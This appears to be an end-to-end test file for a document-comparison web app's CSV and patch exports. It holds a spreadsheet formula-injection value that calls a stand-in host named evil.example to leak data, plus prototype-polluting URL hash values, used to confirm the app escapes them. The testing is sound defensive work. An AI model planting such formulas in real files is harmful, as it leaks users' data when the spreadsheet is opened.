// Exports under hostile or awkward input: a document named as a spreadsheet formula, URL hash
// values naming Object.prototype members, a pair whose text was decoded from Windows-1252. Each export is downloaded as a user would.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { downloaded, dropFiles, pasteDocument, startHarness } from './harness.mjs';

let harness;
before(async () => { harness = await startHarness(); });
after(async () => { await harness?.close(); });

test('the CSV of the matrix keeps a formula-like document name as text', async () => {
  const page = await harness.newPage();
  const name = '=HYPERLINK("http://evil.example/?leak","open me")';
  // The first paste replaces the untouched examples (first-files.js); the second joins it.
  await page.click('#paste-button');
  await page.fill('#paste-name', name);
  await page.fill('#paste-text', 'The harbour wall will be rebuilt next spring, the council said on Monday.\n');
  await page.click('#paste-add');
  await page.waitForFunction(() => document.querySelectorAll('.doc-item').length === 1);
  await pasteDocument(page, 'plain', 'The harbour wall will be rebuilt next year, the mayor said on Monday.\n');
  await page.click('#tab-overview');
  await page.waitForFunction(() => document.querySelectorAll('#matrix tbody tr').length === 2);
  const csv = await downloaded(page, '#export-csv');
  const quoted = `"'=HYPERLINK(""http://evil.example/?leak"",""open me"")"`;
  const lines = csv.text.split('\r\n');
  assert.ok(lines[0].includes(`,${quoted}`), lines[0]);
  assert.equal(lines.filter((line) => line.startsWith(`${quoted},`)).length, 1);
  assert.ok(!/(^|,)"?[=+@-]/.test(csv.text.replaceAll(/,-?\d/g, ',0')), 'no cell starts as a formula');
  assert.deepEqual(page.problems, []);
  await page.close();
});

for (const word of ['constructor', '__proto__', 'toString']) {
  test(`#s=${word} in the URL still exports the CSV of the rewrite score`, async () => {
    const page = await harness.newPage(`#v=overview&s=${word}`);
    await page.waitForSelector('#matrix');
    assert.equal(await page.$eval('#matrix-score', (select) => select.value), 'rewrite');
    const csv = await downloaded(page, '#export-csv');
    assert.equal(csv.name, 'concord-matrix-rewrite.csv');
    const rows = csv.text.trim().split('\r\n').slice(1).map((line) => line.split(',').slice(1).map(Number));
    assert.equal(rows.length, 5);
    assert.ok(rows.every((row) => row.length === 5 && row.every((x) => x >= 0 && x <= 1)), csv.text);
    assert.deepEqual(page.problems, []);
    await page.close();
  });
}

async function showsPair(page, a, b) {
  await page.waitForFunction(([left, right]) => document.querySelector('#pair-a')?.value === String(left) &&
    document.querySelector('#pair-b')?.value === String(right) && /changed/.test(document.querySelector('#summary')?.textContent), [a, b]);
}

/** Applies `patch` to `text` saved as `name` with `patch -p1` and with `git apply`; both results. */
function applyBoth(name, text, patch) {
  const dir = mkdtempSync(join(tmpdir(), 'concord-page-patch-'));
  execFileSync('git', ['init', '-q', dir]);
  writeFileSync(join(dir, '..', `${basename(dir)}.diff`), patch);
  const results = [];
  for (const tool of [['patch', '-p1', '-s', '-i'], ['git', 'apply']]) {
    writeFileSync(join(dir, name), text);
    execFileSync(tool[0], [...tool.slice(1), join(dir, '..', `${basename(dir)}.diff`)], { cwd: dir, stdio: 'pipe' });
    results.push(readFileSync(join(dir, name), 'utf8'));
  }
  return results;
}

test('the page\'s patch of a decoded file says it is for the UTF-8 text; a plain one applies as it is', async () => {
  const page = await harness.newPage();
  const left = 'Café notes\nline two\nline three\n';
  const right = 'Café notes\nline 2\nline three\n';
  await dropFiles(page, [
    { name: 'old notes.txt', bytes: [...Buffer.from(left, 'latin1')] }, // Windows-1252, not UTF-8
    { name: 'new notes.txt', text: right },
    { name: 'plain notes.txt', text: left },
  ]);
  await page.waitForFunction(() => document.querySelectorAll('.doc-item').length === 3); // in place of the examples
  const names = await page.$$eval('.doc-item', (items) => items.map((item) => item.textContent));
  const index = (name) => names.findIndex((text) => text.includes(name));
  const [oldDoc, newDoc, plainDoc] = ['old notes.txt', 'new notes.txt', 'plain notes.txt'].map(index);
  await page.evaluate((hash) => { location.hash = hash; }, `#v=pair&a=${oldDoc}&b=${newDoc}`);
  await showsPair(page, oldDoc, newDoc);
  const decoded = await downloaded(page, '#export-patch');
  const [label, ...rest] = decoded.text.split('\n');
  assert.match(label, /^Concord patch for the UTF-8 text compared, not for the original files: old notes\.txt is Windows-1252/);
  assert.match(await page.textContent('#status'), /for the UTF-8 text compared: it will not apply to the original file, as old notes\.txt is Windows-1252/);
  assert.match(rest.join('\n'), /^--- "a\/old notes\.txt"\n\+\+\+ "b\/old notes\.txt"\n/);
  assert.deepEqual(applyBoth('old notes.txt', left, decoded.text), [right, right], 'the label line is skipped by both tools');

  await page.evaluate((hash) => { location.hash = hash; }, `#v=pair&a=${plainDoc}&b=${newDoc}`);
  await showsPair(page, plainDoc, newDoc);
  const plain = await downloaded(page, '#export-patch');
  assert.match(plain.text, /^--- "a\/plain notes\.txt"\n\+\+\+ "b\/plain notes\.txt"\n@@ /);
  assert.deepEqual(applyBoth('plain notes.txt', left, plain.text), [right, right]);
  assert.match(await page.textContent('#status'), /^Patch downloaded: apply it beside plain notes\.txt with patch -p1 or git apply\./);
  assert.deepEqual(page.problems, []);
  await page.close();
});
